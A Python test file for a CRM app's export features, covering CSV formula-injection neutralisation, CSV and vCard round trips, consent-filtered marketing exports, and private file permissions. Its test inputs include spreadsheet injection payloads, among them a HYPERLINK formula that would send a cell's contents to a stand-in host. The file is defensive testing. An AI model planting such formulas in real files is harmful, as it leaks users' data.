"""Exports: CSV safe against formula injection, round trips, marketing lists, private files."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

from crmtui.db.migrate import upgrade_database
from crmtui.services.exchange.csv_export import CSV_COLUMNS
from crmtui.services.exchange.desk import file_key
from tests.conftest import open_shop

NASTY = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(1,2)", "-2+3", "@cmd", "\tTabbed", "\rCR"]


def read_back(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def import_file(shop, path: Path, **kwargs):
    table, mapping = shop.exchange.read_csv(path)
    plan = shop.exchange.plan_csv(table, mapping)
    return plan, shop.exchange.run_import(plan, batch_key=file_key(path), **kwargs)


def test_formula_cells_are_neutralised_and_come_back_exactly(shop, tmp_path, add_contact):
    for index, text in enumerate(NASTY):
        add_contact(f"Person {index}", notes=text.strip() or "x", tags="", greeting_name="")
    ids = [add_contact(text.strip() + " Name") for text in NASTY[:4]]
    path = tmp_path / "out.csv"
    shop.exchange.export_csv(path, contact_ids=ids)
    rows = read_back(path)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert [r["full_name"] for r in rows] == [
        '\'=HYPERLINK("http://x.example/?"&A1) Name',
        "'+SUM(1,2) Name",
        "'-2+3 Name",
        "'@cmd Name",
    ]
    phone = add_contact("Phone Person", "+48 601 234 567")
    shop.exchange.export_csv(path, contact_ids=[phone])
    assert read_back(path)[0]["phone"] == "'+48 601 234 567"  # still reads as the number
    # parsed back by the importer: the apostrophe goes, the text is exactly what was stored
    shop.exchange.export_csv(path, contact_ids=ids)
    plan = shop.exchange.plan_csv(*shop.exchange.read_csv(path))
    assert sorted(r.clean.full_name for r in plan.new) == sorted(
        t.strip() + " Name" for t in NASTY[:4]
    )


def test_csv_round_trip_db_to_csv_to_db_to_csv(shop, tmp_path, add_contact):
    add_contact("Anna Nowak", "601 234 567", email="anna@example.com", birthday="24.12.1990",
                tags="vip, regular", notes="Line one\nLine two, with comma \"quoted\"",
                greeting_name="Ania", marketing_consent=True)  # fmt: skip
    add_contact("王伟", email="wang@example.cn", birthday="--03-15")
    first = tmp_path / "first.csv"
    shop.exchange.export_csv(first)
    other_path = tmp_path / "other.sqlite3"
    upgrade_database(other_path, now=shop.clock(), backup_dir=tmp_path / "b")
    other = open_shop(other_path, shop.clock)
    try:
        plan, report = import_file(other, first)
        assert (report.created, plan.errors) == (2, ())
        second = tmp_path / "second.csv"
        other.exchange.export_csv(second)
    finally:
        other.close()
    skip = {"created_at"}
    strip = lambda rows: [{k: v for k, v in r.items() if k not in skip} for r in rows]  # noqa: E731
    assert strip(read_back(first)) == strip(read_back(second))
    assert tuple(read_back(first)[0]) == CSV_COLUMNS


def test_marketing_export_leaves_out_people_without_consent(shop, tmp_path, add_contact):
    yes = add_contact("Yes Please", marketing_consent=True)
    add_contact("No Thanks")
    report = shop.exchange.export_csv(tmp_path / "m.csv", marketing_only=True)
    assert (report.written, report.left_out) == (1, 1)
    assert [r["id"] for r in read_back(tmp_path / "m.csv")] == [str(yes)]


def test_a_set_of_ids_exports_just_those(shop, tmp_path, add_contact):
    ids = [add_contact(f"Person {i}") for i in range(5)]
    report = shop.exchange.export_csv(tmp_path / "s.csv", contact_ids=[ids[3], ids[1]])
    assert report.written == 2
    assert [r["id"] for r in read_back(tmp_path / "s.csv")] == [str(ids[1]), str(ids[3])]


def test_every_export_file_is_private_even_under_umask_022(shop, tmp_path, add_contact):
    contact = add_contact("Anna Nowak")
    previous = os.umask(0o022)
    try:
        files = {
            "csv": shop.exchange.export_csv(tmp_path / "a.csv").path,
            "vcf": shop.exchange.export_vcard(tmp_path / "a.vcf").path,
        }
        shop.exchange.export_json(tmp_path / "a.json")
        shop.exchange.export_person(contact, tmp_path / "p.json")
        files |= {"json": tmp_path / "a.json", "person": tmp_path / "p.json"}
        backup = shop.exchange.auto_backup()
    finally:
        os.umask(previous)
    assert backup is not None
    for path in [*files.values(), backup]:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(backup.parent.stat().st_mode) == 0o700


def test_vcard_round_trip_3_and_4(shop, tmp_path, add_contact):
    add_contact(
        "Anna Nowak",
        "601 234 567",
        email="anna@example.com",
        birthday="24.12.1990",
        tags="vip, regular",
        notes="Line one\nLine; two, three",
        greeting_name="Ania",
    )
    add_contact("Jan Kowal", birthday="--03-15")
    for version in ("3.0", "4.0"):
        first = tmp_path / f"first-{version}.vcf"
        shop.exchange.export_vcard(first, version=version)
        other_path = tmp_path / f"other-{version}.sqlite3"
        upgrade_database(other_path, now=shop.clock(), backup_dir=tmp_path / "b")
        other = open_shop(other_path, shop.clock)
        try:
            plan = other.exchange.plan_vcard(first)
            assert plan.errors == ()
            other.exchange.run_import(plan, batch_key=file_key(first))
            second = tmp_path / f"second-{version}.vcf"
            other.exchange.export_vcard(second, version=version)
        finally:
            other.close()
        assert first.read_text() == second.read_text()
        assert first.read_text().count("BEGIN:VCARD") == 2
        assert f"VERSION:{version}" in first.read_text()
